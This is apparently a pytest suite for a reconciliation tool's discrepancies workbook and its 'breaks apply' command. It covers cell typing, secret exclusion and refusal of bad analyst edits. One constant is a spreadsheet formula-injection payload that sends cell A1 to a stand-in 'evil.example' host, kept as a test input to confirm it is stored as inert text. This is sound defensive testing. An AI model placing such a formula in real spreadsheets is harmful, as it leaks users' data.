"""discrepancies.xlsx and `recon breaks apply`: the workbook read back by a reader that is not
its writer (openpyxl), edited as an analyst edits it, and applied to the break history of a
real night against the sandbox on loopback.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import recon
from recon import config, pipeline, report, sheet
from recon.cli import cli
from recon.demo import DemoResult, run_demo
from recon.history import History
from recon.money import amount_text
from tests.conftest import MakeSandbox, default_scenario
from tests.helpers import DAY, credentials, recon_run, run_config

TODAY = datetime.now(UTC).date()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> DemoResult:
    return run_demo(tmp_path_factory.mktemp("demo"))


def finding(**values: Any) -> dict[str, Any]:
    return {
        "check": "amount_mismatch",
        "severity": "error",
        "state": "new",
        "currency": "USD",
        "drift": None,
        "at_risk": None,
        **values,
    }


def model(*findings: dict[str, Any], quarantine: list[dict[str, Any]] | None = None) -> Any:
    return report.Report(
        day=DAY,
        run={"counts": {}, "totals": [], "complete": True},
        findings=list(findings),
        resolved=[],
        quarantine=quarantine or [],
        trend=[],
        generated_at=datetime(2026, 4, 15, tzinfo=UTC),
    )


def cells(path: Path, name: str = sheet.FINDINGS_SHEET) -> tuple[Any, list[dict[str, Any]]]:
    """The sheet, and its rows as {header: openpyxl cell}."""
    book = openpyxl.load_workbook(path)
    ws = book[name]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, row, strict=False)) for row in ws.iter_rows(min_row=2)]
    return ws, rows


# -- the workbook ---------------------------------------------------------------------------


def test_cells_are_typed_money_dates_and_text(tmp_path: Path) -> None:
    path = tmp_path / "d.xlsx"
    created = datetime(2026, 4, 14, 5, 36, 4)
    sheet.write_workbook(
        model(
            finding(
                currency="KWD",
                starship_amount=Decimal("9.8250"),
                ledger_amount=Decimal("9.8240"),
                delta=Decimal("-0.0010"),
                order_id="000123",
                ledger_entry_id="0042",
                reference="007",
                created_at=created,
                first_seen=DAY,
                age_hours=18.4,
                line=7,
                break_id="0123456789ab",
                detail=HYPERLINK,
            ),
            finding(currency="JPY", starship_amount=Decimal("5850.0000"), detail="+1 yen"),
            finding(currency="USD", delta=Decimal("24.1300"), reference="@SUM(A1)"),
            # more digits than a double holds: text, never a rounded number
            finding(currency="USD", starship_amount=Decimal("12345678901234.5600")),
        ),
        path,
    )
    ws, rows = cells(path)
    kwd, jpy, usd, huge = rows
    assert [c.value for c in ws[1]][13] == "created_at (UTC)"
    for cell, number_format, exact in [
        (kwd["starship_amount"], "#,##0.000", "9.825"),
        (kwd["delta"], "#,##0.000", "-0.001"),
        (jpy["starship_amount"], "#,##0", "5850"),
        (usd["delta"], "#,##0.00", "24.13"),
    ]:
        assert cell.data_type == "n" and isinstance(cell.value, int | float)
        assert cell.number_format == number_format
        assert Decimal(repr(cell.value)) == Decimal(exact)
    assert huge["starship_amount"].data_type == "s"
    assert huge["starship_amount"].value == "12345678901234.56"
    # the file holds the exact decimal text, not a binary tail
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>-0.001</v>" in xml and "<v>9.825</v>" in xml and "<v>24.13</v>" in xml
    assert kwd["created_at (UTC)"].is_date and kwd["created_at (UTC)"].value == created
    assert kwd["first_seen"].is_date and kwd["first_seen"].value.date() == DAY
    assert kwd["night"].is_date and kwd["night"].value.date() == DAY
    assert kwd["age_hours"].value == 18.4 and kwd["line"].value == 7
    for name, text in [
        ("order_id", "000123"),
        ("ledger_entry_id", "0042"),
        ("reference", "007"),
        ("break_id", "0123456789ab"),
    ]:
        assert kwd[name].data_type == "s" and kwd[name].value == text
    # a formula's text is a plain string cell, never a formula, and keeps its characters
    for cell, text in [
        (kwd["detail"], HYPERLINK),
        (jpy["detail"], "+1 yen"),
        (usd["reference"], "@SUM(A1)"),
    ]:
        assert cell.data_type == "s" and cell.value == text
    assert "<f>" not in xml
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}5"
    [validation] = ws.data_validations.dataValidation
    assert validation.type == "list" and validation.formula1 == '"ack,snooze,reopen"'
    assert str(validation.sqref) == "W2:W5"


@settings(max_examples=60, deadline=None)
@given(
    currency=st.sampled_from(["JPY", "USD", "KWD"]),
    minor=st.integers(min_value=-(10**14) + 1, max_value=10**14 - 1),
)
def test_money_cells_read_back_exactly(tmp_path_factory: Any, currency: str, minor: int) -> None:
    """Up to 15 significant digits (USD 999,999,999,999.99), the double a reader parses the
    cell into is the amount: rounded to the currency's minor unit, or as Python's repr."""
    decimals = {"JPY": 0, "USD": 2, "KWD": 3}[currency]
    amount = Decimal(minor).scaleb(-decimals)
    path = tmp_path_factory.mktemp("money") / "d.xlsx"
    sheet.write_workbook(model(finding(currency=currency, delta=amount)), path)
    [row] = cells(path)[1]
    assert row["delta"].data_type == "n"
    assert Decimal(repr(float(row["delta"].value))) == amount


def test_the_demo_workbook_has_the_csvs_rows_and_columns(demo: DemoResult) -> None:
    folder = demo.report.parent
    found = list(csv.DictReader(io.StringIO((folder / "discrepancies.csv").read_text())))
    ws, rows = cells(folder / sheet.FILE_NAME)
    header = [str(c.value).removesuffix(" (UTC)") for c in ws[1]]
    assert header == [*report.CSV_COLUMNS, "action", "until", "night"]
    assert [r["break_id"].value for r in rows] == [r["break_id"] for r in found]
    assert [r["state"].value for r in rows] == [r["state"] for r in found]
    for cell, text in zip((r["delta"] for r in rows), (r["delta"] for r in found), strict=True):
        if text:
            assert Decimal(repr(cell.value)) == Decimal(text)
    quarantine = list(csv.DictReader(io.StringIO((folder / "quarantine.csv").read_text())))
    qs, qrows = cells(folder / sheet.FILE_NAME, sheet.QUARANTINE_SHEET)
    assert [c.value for c in qs[1]] == list(report.QUARANTINE_COLUMNS)
    assert [r["line"].value for r in qrows] == [int(r["line"]) for r in quarantine]
    assert qs.freeze_panes == "A2" and qs.auto_filter.ref


def test_no_voucher_code_or_pin_reaches_the_workbook(demo: DemoResult) -> None:
    secrets = {
        value
        for order in default_scenario().orders
        for item in order.items
        for value in (item.voucher_code, item.pin)
        if value and len(value) > 4
    }
    assert secrets
    with zipfile.ZipFile(demo.report.parent / sheet.FILE_NAME) as book:
        content = b"".join(book.read(name) for name in book.namelist())
    assert not [s for s in secrets if s.encode() in content]
    assert b"claim.sandbox.invalid" not in content


def test_rewriting_gives_the_same_bytes_inside_the_atomic_folder(
    demo: DemoResult, tmp_path: Path
) -> None:
    night = report.build(History(demo.night_history), DAY)
    first = report.write(night, tmp_path).workbook.read_bytes()
    files = report.write(night, tmp_path)
    assert files.workbook == tmp_path / str(DAY) / "discrepancies.xlsx"
    assert files.workbook.read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == [str(DAY)]


def test_a_cell_longer_than_excel_holds_is_clipped_saying_so(tmp_path: Path) -> None:
    path = tmp_path / "d.xlsx"
    sheet.write_workbook(model(finding(note="n" * 100_000, detail="\u202eexe.txt")), path)
    [row] = cells(path)[1]
    assert len(row["note"].value) <= sheet.EXCEL_CELL
    assert row["note"].value.endswith("more characters)")
    assert row["detail"].value == "<U+202E>exe.txt"


# -- recon breaks apply ------------------------------------------------------------------------


@dataclass
class Night:
    path: Path  # recon.toml
    folder: Path  # the report folder of D
    sandbox: Any

    @property
    def workbook(self) -> Path:
        return self.folder / sheet.FILE_NAME

    def history(self) -> History:
        return pipeline.history_of(config.load(self.path))

    def actions(self) -> list[tuple[Any, ...]]:
        with self.history().connect() as con:
            return con.execute(
                "SELECT break_id, action, note, until FROM actions ORDER BY number"
            ).fetchall()

    def states(self) -> dict[str, str]:
        return {f["break_id"]: f["state"] for f in self.history().findings(DAY).to_pylist()}


@pytest.fixture
def night(make_sandbox: MakeSandbox, tmp_path: Path) -> Night:
    sandbox = make_sandbox()
    path = run_config(tmp_path, sandbox.base_url)
    result = recon_run(path, sandbox, "--no-email")
    assert result.exit_code == 1, result.output
    return Night(path, tmp_path / "reports" / str(DAY), sandbox)


def edit(workbook: Path, out: Path, marks: dict[int, dict[str, Any]]) -> Path:
    """The workbook with `marks` ({row: {column: value}}) typed in, as an analyst does."""
    book = openpyxl.load_workbook(workbook)
    ws = book[sheet.FINDINGS_SHEET]
    where = {c.value: c.column for c in ws[1]}
    for row, values in marks.items():
        for name, value in values.items():
            ws.cell(row, where[name], value)
    book.save(out)
    return out


def ids(workbook: Path) -> dict[int, str]:
    """{spreadsheet row: break id}"""
    _, rows = cells(workbook)
    return {n: r["break_id"].value for n, r in enumerate(rows, start=2)}


def apply(night: Night, path: Path, *extra: str) -> Any:
    return CliRunner().invoke(
        cli, ["breaks", "apply", str(path), "--config", str(night.path), *extra]
    )


def rows_with_state(workbook: Path, state: str) -> list[int]:
    _, rows = cells(workbook)
    return [n for n, r in enumerate(rows, start=2) if r["state"].value == state]


SNOOZE_UNTIL = TODAY + timedelta(days=30)


def good_marks(workbook: Path) -> dict[int, dict[str, Any]]:
    first, second, third, *_ = rows_with_state(workbook, "new")
    return {
        first: {"action": "ack", "note": "credit note CN-1"},
        second: {"action": "Snooze ", "until": datetime.combine(SNOOZE_UNTIL, datetime.min.time())},
        third: {"action": "snooze", "until": SNOOZE_UNTIL.isoformat(), "note": "ticket 7"},
    }


def test_apply_changes_exactly_the_marked_breaks(night: Night, tmp_path: Path) -> None:
    marks = good_marks(night.workbook)
    edited = edit(night.workbook, tmp_path / "edited.xlsx", marks)
    before = night.states()
    result = apply(night, edited)
    assert result.exit_code == 0, result.output
    assert "applied: ack 1, snooze 2, reopen 0" in result.output
    by_row = ids(night.workbook)
    first, second, third = marks
    assert night.actions() == [
        (by_row[first], "ack", "credit note CN-1", None),
        (by_row[second], "snooze", None, SNOOZE_UNTIL),
        (by_row[third], "snooze", "ticket 7", SNOOZE_UNTIL),
    ]
    after = night.states()
    changed = {b for b in after if after[b] != before[b]}
    assert changed == {by_row[first], by_row[second], by_row[third]}
    assert after[by_row[first]] == "acknowledged"
    assert after[by_row[second]] == after[by_row[third]] == "snoozed"

    # the same sheet again: already so, nothing recorded twice
    again = apply(night, edited)
    assert again.exit_code == 0, again.output
    assert "already as the sheet asks, left alone: 3 rows" in again.output
    assert len(night.actions()) == 3

    # the next report shows the states, and a sheet written then can reopen
    assert recon_run(night.path, night.sandbox, "--no-email").exit_code == 1
    _, rows = cells(night.workbook)
    shown = {r["break_id"].value: r for r in rows}
    assert shown[by_row[first]]["state"].value == "acknowledged"
    assert shown[by_row[first]]["note"].value == "credit note CN-1"
    assert shown[by_row[third]]["state"].value == "snoozed"
    row = next(n for n, b in ids(night.workbook).items() if b == by_row[first])
    reopened = apply(night, edit(night.workbook, tmp_path / "r.xlsx", {row: {"action": "reopen"}}))
    assert reopened.exit_code == 0, reopened.output
    assert night.states()[by_row[first]] == "new"


def test_each_refused_row_is_named_and_a_refused_sheet_changes_nothing(
    night: Night, tmp_path: Path
) -> None:
    new = rows_with_state(night.workbook, "new")
    by_row = ids(night.workbook)
    # another analyst acts on one break after the sheet was written
    moved = new[6]
    acted = CliRunner().invoke(
        cli,
        ["breaks", "ack", by_row[moved], "--note", "done by Ana", "--config", str(night.path)],
    )
    assert acted.exit_code == 0, acted.output
    marks = {
        **good_marks(night.workbook),
        new[3]: {"action": "ack", "break_id": "ffffffffffff", "note": "x"},
        new[4]: {"action": "snooze", "until": "2001-01-01"},
        new[5]: {"action": "snooze", "until": "next friday"},
        moved: {"action": "ack", "note": "mine"},
        new[7]: {"action": "ack", "note": None},
        new[8]: {"action": "explain"},
        new[9]: {"action": "snooze"},
    }
    edited = edit(night.workbook, tmp_path / "edited.xlsx", marks)
    before = night.actions()
    result = apply(night, edited)
    assert result.exit_code == 2
    reasons = {
        new[3]: "unknown break id 'ffffffffffff'",
        new[4]: "until 2001-01-01 has passed",
        new[5]: "until 'next friday' is not a date",
        moved: "moved since the sheet was written: new in the sheet, acknowledged now",
        new[7]: "needs a note",
        new[8]: "unknown action 'explain'",
        new[9]: "a snooze needs its last day in the until column",
    }
    for row, reason in reasons.items():
        [line] = [x for x in result.output.splitlines() if x.strip().startswith(f"row {row}:")]
        assert reason in line, line
    assert "refused: 7 rows" in result.output
    assert f"recon: {edited}: 7 row(s) refused, so nothing was applied" in result.output
    assert night.actions() == before  # all or nothing

    dry = apply(night, edited, "--dry-run", "--skip-refused")
    assert dry.exit_code == 0, dry.output
    assert "would apply (dry run): ack 1, snooze 2, reopen 0" in dry.output
    assert night.actions() == before

    skipped = apply(night, edited, "--skip-refused")
    assert skipped.exit_code == 0, skipped.output
    assert "applied: ack 1, snooze 2, reopen 0" in skipped.output
    assert "refused, skipped: 7 rows" in skipped.output
    assert len(night.actions()) == len(before) + 3


def test_a_dry_run_changes_nothing(night: Night, tmp_path: Path) -> None:
    edited = edit(night.workbook, tmp_path / "edited.xlsx", good_marks(night.workbook))
    result = apply(night, edited, "--dry-run")
    assert result.exit_code == 0, result.output
    assert "would apply (dry run): ack 1, snooze 2, reopen 0" in result.output
    assert night.actions() == []
    frame = recon.open(night.path).apply(edited, dry_run=True).frame()
    assert list(frame["result"]) == ["apply"] * 3
    assert list(frame["row"]) == sorted(good_marks(night.workbook))
    assert night.actions() == []


def test_two_actions_for_one_break_are_refused(night: Night, tmp_path: Path) -> None:
    first, second, *_ = rows_with_state(night.workbook, "new")
    twice = ids(night.workbook)[first]
    marks = {
        first: {"action": "ack", "note": "one"},
        second: {"action": "ack", "note": "two", "break_id": twice},
    }
    result = apply(night, edit(night.workbook, tmp_path / "e.xlsx", marks))
    assert result.exit_code == 2
    assert f"row {second}: {twice}: a second action for this break (row {first} has one)" in (
        result.output
    )


def test_a_later_night_that_resolved_the_break_refuses_it(night: Night, tmp_path: Path) -> None:
    """The order missing from the ledger on D is booked on D+1's export: night D+1 resolves
    the break, and a sheet of night D that acknowledges it is refused."""
    history = night.history()
    [missing] = [
        f
        for f in history.findings(DAY).to_pylist()
        if f["check"] == "missing_in_ledger" and f["state"] == "new"
    ]
    ledger = (night.path.parent / f"ledger-{DAY}.csv").read_text(encoding="utf-8")
    header, sample = ledger.splitlines()[:2]
    names = header.split(",")
    row = dict(zip(names, next(csv.reader([sample])), strict=True))
    columns = config.load(night.path).ledger.columns
    for ours, value in {
        "entry_id": "LE-9001",
        "order_id": missing["order_id"],
        "reference": missing["reference"],
        "amount": amount_text(missing["starship_amount"], missing["currency"]),
        "currency": missing["currency"],
    }.items():
        row[columns[ours]] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([names, [row[n] for n in names]])
    (night.path.parent / f"ledger-{DAY + timedelta(days=1)}.csv").write_text(out.getvalue())
    later = CliRunner().invoke(
        cli,
        ["run", "--date", str(DAY + timedelta(days=1)), "--config", str(night.path), "--no-email"],
        env=credentials(night.sandbox),
    )
    assert later.exit_code in (0, 1), later.output
    [resolved] = [
        b for b in night.history().breaks().to_pylist() if b["break_id"] == missing["break_id"]
    ]
    assert resolved["state"] == "resolved", resolved

    row_number = next(n for n, b in ids(night.workbook).items() if b == missing["break_id"])
    marks = {row_number: {"action": "ack", "note": "booked late"}}
    result = apply(night, edit(night.workbook, tmp_path / "e.xlsx", marks))
    assert result.exit_code == 2
    assert (
        f"row {row_number}: {missing['break_id']}: moved: resolved on "
        f"{DAY + timedelta(days=1)}" in result.output
    )


def test_apply_reads_the_csv_with_the_same_columns(night: Night, tmp_path: Path) -> None:
    """discrepancies.csv with action and until added: its night is its report folder's."""
    records = list(csv.reader(io.StringIO((night.folder / "discrepancies.csv").read_text())))
    header = [*records[0], "action", "until"]
    state = header.index("state")
    new = [n for n, r in enumerate(records[1:], start=2) if r[state] == "new"]
    body = [[*r, "", ""] for r in records[1:]]
    body[new[0] - 2][-2:] = ["ack", ""]
    body[new[0] - 2][header.index("note")] = "'=credit note"  # as the CSV neutralises it
    body[new[1] - 2][-2:] = ["reopen", ""]
    body[new[2] - 2][-2:] = ["ack", ""]  # no note
    edited = night.folder / "edited.csv"
    with edited.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([header, *body])
    result = apply(night, edited)
    assert result.exit_code == 2
    assert re.search(rf"row {new[2]}: \w+: acknowledging a break needs a note", result.output)
    result = apply(night, edited, "--skip-refused")
    assert result.exit_code == 0, result.output
    assert "applied: ack 1, snooze 0, reopen 1" in result.output
    break_id = records[new[0] - 1][header.index("break_id")]
    assert night.actions()[0] == (break_id, "ack", "=credit note", None)

    elsewhere = tmp_path / "edited.csv"  # not in a report folder, and no night column
    shutil.copyfile(edited, elsewhere)
    lost = apply(night, elsewhere)
    assert lost.exit_code == 2 and f"recon: {elsewhere}: no column 'night'" in lost.output


def test_a_bad_file_is_named(night: Night, tmp_path: Path) -> None:
    garbage = tmp_path / "garbage.xlsx"
    garbage.write_bytes(b"not a workbook")
    assert apply(night, garbage).exit_code == 2
    assert f"recon: {garbage}: cannot read the workbook" in apply(night, garbage).output
    book = openpyxl.Workbook()
    book.active.title = "findings"
    book.active.append(["break_id", "action", "note"])
    book.save(tmp_path / "short.xlsx")
    short = apply(night, tmp_path / "short.xlsx")
    assert short.exit_code == 2
    assert "no column 'state' in its header (row 1)" in short.output
    other = openpyxl.Workbook()
    other.save(tmp_path / "other.xlsx")
    wrong = apply(night, tmp_path / "other.xlsx")
    assert "no sheet 'findings'; the file has: 'Sheet'" in wrong.output
    assert "no such file" in apply(night, tmp_path / "nowhere.xlsx").output
    blank = apply(night, night.workbook)  # nothing marked: nothing to do
    assert blank.exit_code == 0, blank.output
    assert "0 rows with an action" in blank.output
    assert "nothing to do: no row has an action" in blank.output
    assert "refused" not in blank.output
    assert "Traceback" not in blank.output


def test_a_date_today_is_a_good_snooze(night: Night, tmp_path: Path) -> None:
    [row, *_] = rows_with_state(night.workbook, "new")
    today = {"action": "snooze", "until": TODAY.isoformat()}
    result = apply(night, edit(night.workbook, tmp_path / "e.xlsx", {row: today}))
    assert result.exit_code == 0, result.output
    assert night.actions()[0][3] == TODAY
    assert isinstance(night.actions()[0][3], date)
